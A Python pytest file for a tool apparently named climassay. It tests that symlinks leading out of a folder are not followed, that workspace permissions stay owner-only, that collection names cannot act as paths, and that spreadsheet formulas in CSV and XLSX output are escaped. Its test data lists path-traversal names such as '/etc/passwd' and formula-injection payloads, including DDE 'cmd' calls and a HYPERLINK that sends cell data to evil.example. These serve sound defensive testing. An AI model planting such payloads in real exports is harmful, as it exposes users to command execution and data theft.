"""Where files lie and lead: links out of a folder, names that are paths, who may read, cells that are formulas."""

import csv
import io
import os
import stat
import subprocess
import sys
import zipfile

import openpyxl
import pytest

from climassay.corpus.readers.file_types import find_files
from climassay.io import parse_rows, safe_cell
from climassay.reporting import Table, as_csv
from climassay.reporting.results import write_rows
from climassay.reporting.tables import Column
from climassay.workspace import Workspace
from killed_process import START

posix = pytest.mark.skipif(os.name != "posix", reason="rights and links of files are those of POSIX")


@posix
def test_links_that_lead_out_of_a_folder_are_not_followed(tmp_path):
    secret = tmp_path / "home" / "secret.txt"
    secret.parent.mkdir()
    secret.write_text("The password is swordfish.")
    folder = tmp_path / "given"
    (folder / "part").mkdir(parents=True)
    (folder / "part" / "seas.txt").write_text("The sea warms.")
    (folder / "inside.txt").symlink_to(folder / "part" / "seas.txt")
    (folder / "outside.txt").symlink_to(secret)
    (folder / "up.txt").symlink_to("../home/secret.txt")
    (folder / "home").symlink_to(secret.parent)
    assert find_files([folder]) == [folder / "inside.txt", folder / "part" / "seas.txt"]
    assert find_files([folder / "outside.txt"]) == [folder / "outside.txt"], "named by the user"
    (tmp_path / "shelf").symlink_to(folder)
    assert [file.name for file in find_files([tmp_path / "shelf"])] == ["inside.txt", "seas.txt"]


def rights(path):
    return stat.S_IMODE(path.stat().st_mode)


def open_to_others(folder):
    return {path.name for path in (folder, *folder.rglob("*")) if rights(path) & 0o077}


@posix
def test_a_workspace_is_for_its_owner_however_its_folder_came_about(tmp_path):
    assert rights(Workspace.open(tmp_path / "new" / "workspace").root) == 0o700
    made = tmp_path / "made"
    (made / "collections" / "primer").mkdir(parents=True)
    for file in ("records.sqlite", "records.sqlite-wal", "collections/primer/data"):
        (made / file).write_bytes(b"")
        (made / file).chmod(0o664)
    for folder in (made, made / "collections", made / "collections" / "primer"):
        folder.chmod(0o775)
    Workspace.open(made)
    assert not open_to_others(made)
    assert rights(made / "records.sqlite") == 0o600
    assert rights(made / "collections" / "primer") == 0o700


@posix
def test_what_else_lies_in_the_folder_of_a_workspace_stays_as_it_is(tmp_path):
    project = tmp_path / "project"
    (project / "paper").mkdir(parents=True)
    for file in ("records.sqlite", "paper/draft.tex"):
        (project / file).write_text("")
        (project / file).chmod(0o644)
    (tmp_path / "elsewhere").write_text("")
    (tmp_path / "elsewhere").chmod(0o644)
    (project / "adapters").symlink_to(tmp_path / "elsewhere")
    for folder in (project, project / "paper"):
        folder.chmod(0o755)
    Workspace.open(project)
    assert rights(project / "records.sqlite") == 0o600
    assert [rights(path) for path in (project, project / "paper", project / "paper" / "draft.tex")] == [
        0o755, 0o755, 0o644,
    ]  # fmt: skip
    assert rights(tmp_path / "elsewhere") == 0o644


@posix
@pytest.mark.faults
def test_commands_write_workspaces_for_their_user_and_reports_for_whom_they_are_meant(tmp_path):
    """With a umask that leaves all open, in a folder that was open before: as somebody's first command runs."""
    workspace, reports = tmp_path / "workspace", tmp_path / "reports"
    for folder in (workspace, reports):
        folder.mkdir()
        folder.chmod(0o755)
    (tmp_path / "seas.txt").write_text("The sea warms, and its level rises from year to year.")
    kept = reports / "kept.csv"
    kept.write_text("")
    kept.chmod(0o640)
    for command in (
        ["corpus", "add", "seas", tmp_path / "seas.txt"],
        ["users", "add", "ada", "--role", "admin"],
        ["records", "export", reports / "records.jsonl"],
        ["records", "export", kept],
    ):
        given = [*START, *map(str, command), "--workspace", str(workspace)]
        done = subprocess.run(given, capture_output=True, text=True, umask=0o022, check=False)
        assert done.returncode == 0, done.stderr
    assert list((workspace / "collections").rglob("*"))
    assert not open_to_others(workspace)
    assert rights(reports / "records.jsonl") == 0o644
    assert rights(kept) == 0o640


@posix
@pytest.mark.faults
def test_a_report_in_a_folder_of_its_own_is_as_open_as_the_folder_around_it(tmp_path):
    write = (
        "from pathlib import Path; from climassay.io import write_file;"
        "from climassay.workspace import restrict_to_user; restrict_to_user();"
        " [write_file(Path(name) / 'new' / 'report.html', b'x') for name in ('open', 'closed')]"
    )
    for name, mode in (("open", 0o755), ("closed", 0o700)):
        (tmp_path / name).mkdir()
        (tmp_path / name).chmod(mode)
    subprocess.run([sys.executable, "-c", write], cwd=tmp_path, umask=0o022, check=True)
    found = {
        name: [rights(tmp_path / name / part) for part in ("new", "new/report.html")] for name in ("open", "closed")
    }
    assert found == {"open": [0o755, 0o644], "closed": [0o700, 0o600]}


NAMES = ["../outside", "/etc/passwd", "a/b", "a\\b", "..", ".hidden", "a\nb", "a" * 300, ""]


@pytest.mark.parametrize("name", NAMES)
def test_the_name_of_a_collection_is_no_path(name, tmp_path, climassay):
    (tmp_path / "seas.txt").write_text("The sea warms.")
    workspace = tmp_path / "deep" / "workspace"
    before = {file for file in tmp_path.rglob("*") if workspace not in (file, *file.parents)}
    for arguments in (("add", name, tmp_path / "seas.txt"), ("show", name), ("remove", name, "--yes")):
        code, _, err = climassay("corpus", *arguments, "--workspace", workspace)
        assert code == 2
        assert "cannot name a collection" in err
    after = {file for file in tmp_path.rglob("*") if workspace not in (file, *file.parents)}
    assert after - before <= {workspace.parent}


FORMULAS = [
    '=HYPERLINK("http://evil.example/"&A1,"open")', "=1+1", "+cmd|' /C calc'!A0", "-1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "-A1", "+1-SUM(A1)",
]  # fmt: skip
PLAIN = [
    "-0.35", "+1.2", "−0.12", "-0.12 to 0.30", "-1.5e-3", "+3.1 [-2.0, 8.2]", "-", "", "text", "a = b", 3, -0.5, None,
]  # fmt: skip


@pytest.mark.parametrize("formula", FORMULAS)
def test_a_cell_that_a_spreadsheet_would_run_is_marked_as_text(formula):
    marked = "'" + formula.replace("\r", "\n")
    assert safe_cell(formula) == marked
    table = Table("Answers", [Column("id"), Column(formula)], [["1", formula]])
    heading, row = csv.reader(io.StringIO(as_csv(table), newline=""))
    assert heading[1] == row[1] == marked


@pytest.mark.parametrize("cell", PLAIN)
def test_numbers_intervals_and_words_stay_as_they_are(cell):
    assert safe_cell(cell) == cell


def test_no_text_begins_a_row_of_its_own():
    table = Table("Answers", [Column("id"), Column("text")], [["1", "harmless\r=1+1"], ["2", "x\r\n=1+1"]])
    rows = list(csv.reader(io.StringIO(as_csv(table), newline="")))
    assert rows[1:] == [["1", "harmless\n=1+1"], ["2", "x\n=1+1"]]


@pytest.mark.parametrize("text", [*FORMULAS, "https://example.org", "{=1+1}", "\x1b]0;title\x07 warms", "half \ud83d"])
def test_a_cell_of_a_workbook_is_text_whatever_it_says(text, tmp_path):
    write_rows(tmp_path / "answers.xlsx", [{"answer": text}])
    with zipfile.ZipFile(tmp_path / "answers.xlsx") as workbook:
        assert not any("externalLink" in name or "sheet1.xml.rels" in name for name in workbook.namelist())
    cell = openpyxl.load_workbook(tmp_path / "answers.xlsx").active["A2"]
    assert (cell.data_type, cell.hyperlink) == ("s", None)
    [row] = parse_rows(tmp_path / "answers.xlsx", (tmp_path / "answers.xlsx").read_bytes())
    assert row == {"answer": text.replace("\ud83d", "?")}


def test_csv_files_of_strangers_words_are_written_through_it():
    """Whoever writes CSV takes ``safe_cell`` or a form of it that reading takes off again."""
    from pathlib import Path

    import climassay

    root = Path(climassay.__file__).parent
    writers = {
        file for file in root.rglob("*.py") if "csv.writer(" in (text := file.read_text()) or "csv.DictWriter(" in text
    }
    assert len(writers) >= 4
    assert not [
        file for file in writers if "safe_cell(" not in file.read_text() and "_escape_formula(" not in file.read_text()
    ]
